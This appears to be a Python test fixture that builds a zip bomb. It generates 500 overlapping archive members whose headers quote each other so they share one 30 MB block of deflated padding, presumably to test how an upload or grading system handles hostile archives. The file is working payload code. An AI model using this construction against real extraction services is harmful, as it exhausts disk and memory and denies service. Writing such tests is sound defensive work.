"""Tries: have the same 30 MB of packed data gone through by five hundred members, out of which next to nothing comes.
Base: a download from Canvas
Must: be taken
"""

import struct
import zlib

from hostile_zips import closed, deflated


def download():
    nothing = b"\0\0\0\xff\xff" * (6 << 20) + deflated(b"x").data
    front, out, headers = b"", b"x", []
    for number in reversed(range(500)):  # each member quotes the header of the next one, and goes on with its data
        name = f"{number:03}.py".encode()
        size = len(front) + len(nothing)
        header = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0x21, zlib.crc32(out), size, len(out), len(name), 0)
        headers.append((name, zlib.crc32(out), size, len(out), len(header + name) + len(front)))
        quote = struct.pack("<B2H", 0, len(header + name), 0xFFFF - len(header + name)) + header + name
        front, out = quote + front, header + name + out
    body = front[5:] + nothing
    lines = b""
    for name, crc, packed, size, behind in headers:
        offset = len(body) - len(nothing) - behind
        lines += struct.pack(
            "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0x21, crc, packed, size, len(name), 0, 0, 0, 0, 0, offset
        ) + name
    return {"moemallory_777_5002_w.zip": closed(body, lines, len(headers))}
